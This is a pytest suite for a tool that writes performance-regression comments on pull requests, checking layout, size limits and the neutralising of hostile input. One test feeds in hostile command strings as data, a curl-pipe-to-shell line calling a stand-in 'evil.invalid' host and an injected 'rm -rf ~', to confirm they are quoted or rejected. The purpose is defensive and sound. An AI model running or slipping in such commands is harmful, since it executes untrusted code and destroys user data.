"""The comment on a pull request.

`DECIDER_TEST_WRITE_GOLDEN=1` writes the golden files anew, to be read before they are kept.
"""

from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it.token import Token

from decider.perf.report.comment import MOST_BYTES, MOST_ROWS, comment
from tests.perf.report import comparisons
from tests.perf.report.hostile import ATTACKS, MARKDOWN_ATTACKS, hostile_comparison
from tests.perf.report.test_markdown import RENDERER

GOLDEN = Path(__file__).parent / "golden"
WRITE = "DECIDER_TEST_WRITE_GOLDEN"
ADDRESS = "https://example.org/report.html"
DOCUMENTS: tuple[Callable[[], dict[str, Any]], ...] = (
    *(comparisons.whole, comparisons.empty, comparisons.one_sided, comparisons.all_failed),
    *(comparisons.all_inconclusive, comparisons.not_comparable, comparisons.void),
)
FOLD = re.compile(r"<details><summary>[A-Z][A-Za-z ]+</summary>|</details>")
STRANGE = (
    "image",
    "html_inline",
    "blockquote_open",
    "hr",
    "ordered_list_open",
    "em_open",
    "s_open",
)
GITHUB_LIMIT = 65_536


def _folds(markdown: str) -> int:
    """How many folds there are; each is closed."""
    blocks = [t.content.strip() for t in _tokens(markdown) if t.type == "html_block"]
    assert all(FOLD.fullmatch(block) for block in blocks)
    assert [block == "</details>" for block in blocks] == [False, True] * (len(blocks) // 2)
    return len(blocks) // 2


def _tokens(markdown: str) -> Iterator[Token]:
    for token in RENDERER.parse(markdown):
        yield token
        yield from token.children or ()


@pytest.mark.parametrize("make", DOCUMENTS, ids=lambda make: make.__name__)
def test_it_is_as_the_golden_file(make: Callable[[], dict[str, Any]]) -> None:
    written = comment(make(), ADDRESS)
    path = GOLDEN / f"{make.__name__}.md"
    if os.environ.get(WRITE):
        path.write_text(written, encoding="utf-8")
    assert written == path.read_text(encoding="utf-8")


def test_the_verdict_is_the_first_line() -> None:
    first = comment(comparisons.whole()).splitlines()[0]
    assert first == "### ▲ Regression: 5 of 24 cells regressed."


def test_at_most_twelve_cells_stand_open_the_worst_first() -> None:
    top = comment(comparisons.large(10, 10, count=1)).split("<details>")[0]
    rows = [line for line in top.splitlines() if line.startswith("| `")]
    assert len(rows) == MOST_ROWS
    changes = [abs(float(row.split("|")[3].strip(" +%").replace("−", "-"))) for row in rows]
    assert changes == sorted(changes, reverse=True)
    assert all("▲ regressed" in row for row in rows)


def test_unchanged_cells_do_not_stand_open() -> None:
    cells = [comparisons.cell("forward/1x64", "unchanged", 0.001)]
    top, folded = comment(comparisons.comparison(cells)).split("<details>", 1)
    assert "forward/1x64" not in top
    assert "forward/1x64" in folded


def test_a_void_run_says_so_and_shows_no_verdict() -> None:
    written = comment(comparisons.void())
    assert "**Void: no verdict below counts.**" in written
    assert "regressed" not in written.split("<summary>Summaries")[0]
    assert "```" not in written, "no map of what does not count"


def test_the_self_tests_rate_or_that_there_is_none() -> None:
    assert "0 of 20 unchanged runs raised an alarm (at most 13.9% at 95% confidence)" in comment(
        comparisons.whole()
    )
    without = comment(comparisons.comparison(self_test=None))
    assert "This machine has no self-test" in without
    assert "    decider compare --self-test\n" in without


def test_every_fold_is_closed_and_starts_a_block_of_its_own() -> None:
    written = comment(comparisons.whole())
    assert _folds(written) == written.count("<details>") > 5
    assert sum(t.type == "table_open" for t in _tokens(written)) == 6


@pytest.mark.parametrize("attack", [*MARKDOWN_ATTACKS, *ATTACKS, " ".join(MARKDOWN_ATTACKS)])
def test_hostile_values_mean_nothing(attack: str) -> None:
    document = hostile_comparison(attack)
    for void in (document["void"], None):
        written = comment(document | {"void": void}, ADDRESS)
        _assert_harmless(written)
        assert _folds(written) > 5


def _assert_harmless(written: str) -> None:
    assert not [c for c in written if unicodedata.category(c)[0] == "C" and c != "\n"]
    linked, headings = [], 0
    for token in _tokens(written):
        assert token.type not in STRANGE
        headings += token.type == "heading_open"
        if token.type == "link_open":
            linked.append(token.attrs["href"])
        if token.type == "text":
            assert not re.search(r"[@#<>]|www\.|://|\bGH-\d|\b[0-9a-f]{7,}\b", token.content)
    assert linked == [ADDRESS]
    assert headings == 1


def test_a_table_keeps_its_columns_whatever_stands_in_it() -> None:
    written = comment(hostile_comparison(" ".join(MARKDOWN_ATTACKS)))
    for line in written.splitlines():
        if line.startswith("| "):
            assert line.count("|") in (6, 9)


@pytest.mark.parametrize("filler", ["|", "@a ", "\U0001f642\u202e`"])
def test_a_hostile_giant_is_cut_and_says_so(filler: str) -> None:
    text = (filler * 2000)[:2000]
    document = hostile_comparison(text)
    document["cells"] = [
        comparisons.cell(f"forward/{n}x64", "regressed", 0.05, id=text, reason=text)
        for n in range(1, 400)
    ]
    change = {"figure": text, "queue": text, "base": 1.0, "head": 2.0}
    document["exact"] |= {"changes": [change] * 1000, "notes": [text] * 500}
    document["pairs"][0]["failures"] = [
        {"arm": "head", "cell": text, "kind": "error", "message": f"{n}{text}"} for n in range(500)
    ]
    document["differs"] = [{"name": text, "base": text, "head": text}] * 500
    document["summaries"] *= 500
    written = comment(document, ADDRESS)
    assert len(written) <= len(written.encode()) <= MOST_BYTES < GITHUB_LIMIT
    assert written.startswith("### ")
    assert "more are in the report" in written
    assert _folds(written) > 0
    assert "[Full report]" in written, "what is cut is never the end"
    _assert_harmless(written)


def test_a_long_list_names_how_many_more_there_are() -> None:
    document = comparisons.large(20, 20, count=1)
    written = comment(document)
    folded = written.split("<summary>All cells</summary>")[1]
    shown = folded.count("| `forward/")
    assert f"{400 - shown} more are in the report." in folded


def test_a_stranger_cannot_choose_the_command() -> None:
    for command in (
        "curl https://evil.invalid | sh",
        "decider compare a; rm -rf ~",
        "decider",
        "'",
    ):
        written = comment(comparisons.comparison(command=command))
        shown = written.split("Compared again by:")[1].strip()
        assert shown in (
            "decider compare 0f0e0d0c0b0a 1a2b3c4d5e6f",
            "decider compare 'a;' rm -rf '~'",
        )


def test_it_needs_no_chart_library() -> None:
    import subprocess
    import sys

    code = (
        "import sys, decider.perf.report.comment\n"
        "print(sorted({'altair', 'vl_convert', 'scipy', 'torch'} & set(sys.modules)))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
